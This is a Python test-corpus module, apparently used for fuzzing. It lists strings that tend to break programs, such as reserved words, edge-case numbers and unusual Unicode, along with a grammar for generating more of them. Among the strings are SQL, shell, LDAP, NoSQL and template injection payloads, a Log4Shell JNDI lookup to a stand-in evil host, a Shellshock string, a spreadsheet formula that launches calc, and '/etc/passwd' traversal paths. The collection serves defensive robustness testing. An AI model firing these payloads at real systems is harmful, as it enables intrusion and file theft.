"""Strings that programmes stumble over: reserved words, numbers, shells, queries, formats, odd letters."""

from __future__ import annotations

from typing import Final

from tests.corpora.grammar import Rules

_WORDS = (
    "null NULL nil None undefined undef true false True FALSE yes no on off NaN nan "
    "Infinity -Infinity inf 1.#INF void "
    "hasOwnProperty constructor prototype __proto__ toString valueOf then __init__ "
    "__class__ self this new function eval "
    "CON PRN AUX NUL COM1 LPT1 con.txt .. . ... ~ ~root - -- --help -rf / // \\ \\\\ /dev/null C:\\ \\\\host\\share "
    "0 -0 +0 00 0x0 0xdeadbeef 0b1 0o7 1e3 1E-7 1/0 0/0 1,000 1.000,00 ١٢٣ ۱۲۳ ４２ ½ Ⅻ ² "
    "1_000 1:30 0777 9007199254740993 "
    "99999999999999999999999999999999 1.7976931348623157e309 -2147483649 4294967296 "
    "2025-11-31 00:60 1970-01-01T00:00:00Z "
    "undefined' admin'-- [] {} [[]] {{}} () (()) <> << >> && || ;; :: ?? !! !!! ## ** __ ~~ ^^ == $$ %% @@ -> => <-"
).split()

LISTED: Final = (
    *_WORDS, "' OR 1=1 --", "'; DROP TABLE x; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "$(touch x)",
    "`touch x`", "| cat",
    "; ls -la", "&& true", "$HOME", "${HOME}", "%PATH%", "%s%s%s%n", "%x %d %p",
    "{0}", "{x}", "{}{}{}", "%(x)s",
    "$1", "\\1", "\\g<0>",
    "{0.__class__}", "${jndi:ldap://evil.invalid/x}", "() { :;}; echo x", "=1+1", "=cmd|' /C calc'!A0", "+1",
    "@SUM(1)", "-1+1",
    "../../../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "file:///etc/passwd", "http://[::1]/", "http://127.1/",
    "ftp://x", "//x",
    "::error::x", "::set-output name=x::y", "##[error]x", "[1] a gloss",
    "# a comment", "[", "]", "|", "a|b", "a\\|b",
    "\\n", "\\0",
    "\\", "\\\\", "\"", "'", "`", "\"\"", "''", "```", "´", "“", "”", "„", "«", "»",
    "‹", "›", "，", "。", "「", "」",
    "…", "[…]", "[...]",
    "A-1", "B-2", "A-999999", "#A-1", "n-t1", "t1", "x\u00a0y", " x", "x ", "  x  ",
    "\tx", "x\t", "x\ty", "x\u3000y",
    "\u3000x",
    "x\u2003y", "x\u202fy", "x\u1680y", "x\u2028y", "x\u2029y", "x\u200by", "x\u200cy", "x\u200dy", "x\u2060y",
    "x\ufeffy", "\ufeffx",
    "x\u00ady", "x\u034fy", "x\u180ey", "x\u3164y", "x\ufe0fy", "x\u202ey", "x\u2066y\u2069", "x\u061cy",
    "x\ufff9y\ufffaz\ufffb",
    "x\ufffdy", "x\ufffcy", "x\U000e0041y", "x\U000e0001y", "Z̴̢̛a̸̛l̷g̶ȯ̵", "ı İ i̇ I ß ẞ ſ ﬁ ŉ ǰ ΐ ς Σ ﷺ",
    "𝕋𝕙𝕖 𝓺𝓾𝓲𝓬𝓴", "ⓉⒽⒺ", "Ｔｈｅ",
    "ǝɥʇ", "田中さん", "部落格", "사회과학원", "찦차", "表ポあA鷗", "𠜎𠜱𠝹", "Ⱥ", "ẚ", "ⱥ",
    "ヽ༼ຈل͜ຈ༽ﾉ", "(｡◕ ∀ ◕｡)", "¯\\_(ツ)_/¯",
    "ʕ•ᴥ•ʔ", "❤️", "👾",
    "👨‍👩‍👧‍👦", "👩🏽‍🚀", "🇺🇳🇻🇳", "🇦", "1️⃣", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "ด้้้้้็็็็", "நி", "क्षि", "각",
    "각", "é", "é", "ﬀ", "Å", "Å",
    "Å", "Ω", "Ω",
    "مرحبا", "שלום", "שָׁלוֹם", "a שלום b", "مرحبا 123 abc", "(שלום)",
    "\u2067x\u2069", "הָיְתָהtestالصفحات", "﷽",
    "ﷲ", "ऐ", "ཀྵ", "ᚁ", "ᚠᛇᚻ",
    "𒀀", "𓀀", "𐎀", "\U0010fffd", "\ue000", "\uf8ff", "\u0378", "Ꙩ", "ꙮ", "﹏", "〿", "⁠x", "x" * 5000, "🜁" * 300,
    "<" * 500, "&" * 500, "[" * 500,
    "*" * 500, "`" * 300, "(" * 300, "\"" * 300, "> " * 120 + "x", "- " * 60 + "x",
    "a " * 800, "a\n" * 60 + "b",
    "\u0301" * 200, "x" + "\u0338" * 99,
)

RULES: Final[Rules] = {
    "text": ("‹word›", "‹odd›‹word›", "‹word›‹odd›", "‹word› ‹word›", "‹odd›‹odd›‹odd›", "‹word›‹space›‹word›",
        "‹number› ‹word›",
             "‹shell›", "‹query›", "‹format›", "‹word›‹mark›‹word›‹mark›", "‹word›\n‹word›\n‹odd›",
             "‹shell› ‹format› ‹query›"),
    "word": ("soldiers", "排雷", "chiến sĩ", "солдаты", "الجنود", "חיילים", "ทหาร",
             "सैनिक", "군인", "İstanbul", "straße",
        "ﬁn", "e\u0301te\u0301",
             "𝓽𝓮𝔁𝓽", "ＡＢＣ", "Ǆ", "ﷺ", "q̣̇", "‹word›‹word›"),
    "odd": ("\u200b", "\u200e", "\u200f", "\u202a", "\u202e", "\u2066", "\u2069", "\u2028", "\ufeff", "\u00ad",
        "\u0301", "\u20dd", "\ufe0f",
            "\u3099", "\u180e", "\ufffd", "\ue000", "\U000f0000", "\U000e0020", "\u115f", "\u3164", "\u0600",
            "\u06dd", "\U0001f3fb", "🇻"),
    "space": (" ", "  ", "\t", "\u00a0", "\u2003", "\u2009", "\u202f", "\u205f",
             "\u3000", "\u1680", "   \t ", "\n",
        "\n "),
    "number": ("0", "-0", "1e309", "0x7f", "0b2", "08", "1_0", "½", "٣", "௩", "〇", "一", "Ⅷ", "①", "1,5", "1.5",
        "1'000", "+1", "NaN",
               "18446744073709551616", ".5", "5.", "1:2:3", "12e03"),
    "mark": ("'", "\"", "`", "\\", "/", "|", ";", ":", "%", "$", "#", "@", "!", "~",
             "^", "&", "<", ">", "{", "}",
        "[", "]", "(", ")", "=", "+", "*", "_"),
    "shell": ("$(‹word›)", "`‹word›`", "; ‹word› ‹mark›", "| ‹word› >‹word›", "&& ‹word›", "$‹word›",
        "${‹word›:-‹word›}", "\\$‹word›", "!‹number›",
              "~‹word›", "*‹mark›?", "{‹word›,‹word›}", "<(‹word›)", "%‹word›%", "^‹word›", "--‹word›=‹mark›",
              "-‹word›"),
    "query": ("' OR '‹number›'='‹number›", "\"; DROP TABLE ‹word›;--", "‹word›' UNION SELECT ‹number›--",
        "*)(uid=*))(|(uid=*", "' or count(/*)=1",
              "{\"$gt\": \"‹word›\"}", "{\"$where\": \"‹word›\"}", "‹number›;WAITFOR DELAY '‹number›'"),
    "format": ("%s", "%n%n", "%‹number›$x", "{‹number›}", "{‹word›.__class__}", "{{‹word›}}", "%(‹word›)s",
        "$‹number›", "\\‹number›", "\\g<‹word›>",
               "${‹number›*‹number›}", "#{‹number›}", "<%=‹number›%>", "[[‹word›]]", "{%‹word›%}", "{#‹word›#}",
               "@{‹word›}", "\\u00‹number›", "&‹word›;"),
}
